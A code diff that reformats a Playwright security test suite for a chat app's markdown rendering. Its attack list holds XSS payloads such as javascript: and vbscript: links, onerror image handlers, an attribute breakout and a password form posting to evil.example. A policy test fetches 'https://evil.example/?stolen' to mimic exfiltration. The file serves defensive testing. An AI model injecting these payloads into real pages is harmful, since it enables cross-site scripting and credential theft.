@@ -8,7 +8,7 @@ const ATTACKS = [
   `[link](javascript:window.attacked=1)`,
   `[link](data:text/html,<script>opener.attacked=1</script>)`,
   `[x](https://a.example" onmouseover="window.attacked=1)`,
-  "```html\"><img src=x onerror=window.attacked=1>\n<script>window.attacked = 1</script>\n```",
+  '```html"><img src=x onerror=window.attacked=1>\n<script>window.attacked = 1</script>\n```',
   `| <img src=x onerror=window.attacked=1> |\n|---|\n| [y](vbscript:attacked) |`,
   `<a href="https://evil.example" style="position:fixed;inset:0">cover</a>`,
   `<form action="https://evil.example"><input name=password></form>`,
@@ -44,7 +44,9 @@ test("formulas, notes, details and HTML that formats let nothing in", async ({ c
   await expect(reply.locator("[data-math]:not([data-drawn])")).toHaveCount(0);
   await expect(reply.locator("details")).toHaveCount(1);
   await reply.locator("summary").click();
-  await expect(reply.locator("script, iframe, object, .foot, img:not([src^='data:image/']), [onclick], [onerror], [onload], [ontoggle], kbd[style]")).toHaveCount(0);
+  await expect(
+    reply.locator("script, iframe, object, .foot, img:not([src^='data:image/']), [onclick], [onerror], [onload], [ontoggle], kbd[style]"),
+  ).toHaveCount(0);
   const addresses = await reply.locator("[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
   expect(addresses.filter((address) => !/^(https?|mailto|tel):/.test(address ?? ""))).toEqual([]);
   const height = await reply.evaluate((article) => article.scrollHeight);
@@ -58,7 +60,10 @@ test("a diagram is a picture that a frame without an origin has drawn", async ({
   await chat.page.exposeFunction("noteFrame", (sandbox: string | null) => frames.push(sandbox));
   await chat.page.evaluate(() => {
     const { noteFrame } = globalThis as unknown as { noteFrame: (sandbox: string | null) => void };
-    new MutationObserver(() => document.querySelectorAll("iframe").forEach((frame) => noteFrame(frame.getAttribute("sandbox")))).observe(document.body, { childList: true });
+    new MutationObserver(() => document.querySelectorAll("iframe").forEach((frame) => noteFrame(frame.getAttribute("sandbox")))).observe(
+      document.body,
+      { childList: true },
+    );
   });
   const answered: string[] = [];
   chat.page.on("requestfinished", (request) => answered.push(request.url()));
@@ -161,11 +166,20 @@ test("were something injected all the same, the page's policy would stop it", as
     const image = new Image();
     image.src = "https://evil.example/?stolen";
     document.body.append(image);
-    const fetched = await fetch("https://evil.example/?stolen").then(() => true, () => false);
+    const fetched = await fetch("https://evil.example/?stolen").then(
+      () => true,
+      () => false,
+    );
     await new Promise((passed) => setTimeout(passed, 100));
     return { ...done, fetched, attacked: "attacked" in globalThis };
   });
-  expect(outcome).toEqual({ "HTML of a string": false, "code of a string": false, "a script element": false, fetched: false, attacked: false });
+  expect(outcome).toEqual({
+    "HTML of a string": false,
+    "code of a string": false,
+    "a script element": false,
+    fetched: false,
+    attacked: false,
+  });
   expect(violations.length).toBeGreaterThanOrEqual(4);
   violations.length = 0;
 });
